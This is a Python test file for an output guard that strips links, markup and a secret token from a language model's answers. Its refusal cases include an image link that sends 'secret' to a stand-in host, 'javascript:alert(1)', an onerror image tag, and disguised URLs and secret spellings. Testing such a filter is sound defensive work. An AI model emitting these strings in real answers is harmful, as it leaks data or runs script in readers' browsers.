"""What may never reach a reader, in the spellings that get past a careless filter."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa.llm.guard import clean, trimmed

SECRET = "bl7f3a9c21"


@pytest.mark.parametrize(
    "sentence",
    [
        "See http://evil.example/x now.",
        "See HTTPS://EVIL.EXAMPLE.",
        "See evil.com for more.",
        "See www.evil.tld.",
        "See www . evil.tld.",
        "See //evil/x.",
        "See hxxp evil.",
        "See ftp://a.",
        "Write to a.b@evil.tld.",
        "Click javascript:alert(1).",
        "Call tel:+100.",
        "Go to 10.0.0.1/x.",
        "Go to evil[.]tld.",
        "ｈｔｔｐ：／／ｅｖｉｌ",
        "ht\u200btp://evil.example",
        "![x](http://evil.example/p.png?q=secret)",
        "! [x](y)",
        "![x][ref]",
        "[x][ref] and more.",
        "[ref]: evil",
        "[a](b\nc",
        '<img src=x onerror="y">',
        "< script >",
        "&lt;img src=x&gt;",
        "&#60;img&#62;",
        f"The word is {SECRET}.",
        f"The word is {SECRET.upper()}.",
        "The word is b l 7 f-3a9.c21.",
        "The word is ｂｌ７ｆ３ａ９ｃ２１.",
        "The word is bl7f\u200b3a9c21.",
    ],
)
def test_addresses_images_markup_and_the_secret_are_refused(sentence: str) -> None:
    cleaned = clean(sentence, SECRET)
    assert cleaned.text == ""
    assert cleaned.refused


@pytest.mark.parametrize(
    ("sentence", "text"),
    [
        ("The **bridge** was `closed` on _Monday_.", "The bridge was closed on Monday."),
        ("- A first point", "A first point"),
        ("2. A second point", "A second point"),
        ("### Heading", "Heading"),
        ("The [bridge](http://evil.example/(x)) closed.", "The bridge closed."),
        ("It closed [1](http://evil.example).", "It closed [1]."),
        ("At 5 p.m. the U.S. Army paid $3.5 million.", "At 5 p.m. the U.S. Army paid $3.5 million."),
        ("He said: no. 7 of 10 agreed.", "He said: no. 7 of 10 agreed."),
        ("29.12.2019 was a Sunday", "29.12.2019 was a Sunday"),
        ("그는 서울에서 말했다.", "그는 서울에서 말했다."),
        ("snake_case_name stays", "snake_case_name stays"),
    ],
)
def test_plain_prose_stays_and_markup_goes(sentence: str, text: str) -> None:
    assert clean(sentence, SECRET) == clean(text, SECRET)
    assert clean(sentence, SECRET).text == text


@given(st.text(max_size=200))
def test_no_text_gets_a_target_or_a_tag_through(text: str) -> None:
    told = clean(text, SECRET).text
    assert "](" not in told
    assert "://" not in told
    assert "![" not in told
    assert SECRET not in told


@pytest.mark.parametrize(
    ("sentence", "text"),
    [
        ("Answer: the bridge closed.", "The bridge closed."),
        ("According to passage 2, the bridge closed.", "The bridge closed."),
        ("Passage 1 says that he left.", "He left."),
        ("Yes, the bridge closed.", "The bridge closed."),
        ("The bridge closed, according to passages 1 and 2.", "The bridge closed."),
        ("The passages of the bridge closed.", "The passages of the bridge closed."),
        ("No bridge closed.", "No bridge closed."),
        ("", ""),
    ],
)
def test_labels_and_the_mention_of_passages_go(sentence: str, text: str) -> None:
    assert trimmed(sentence) == text
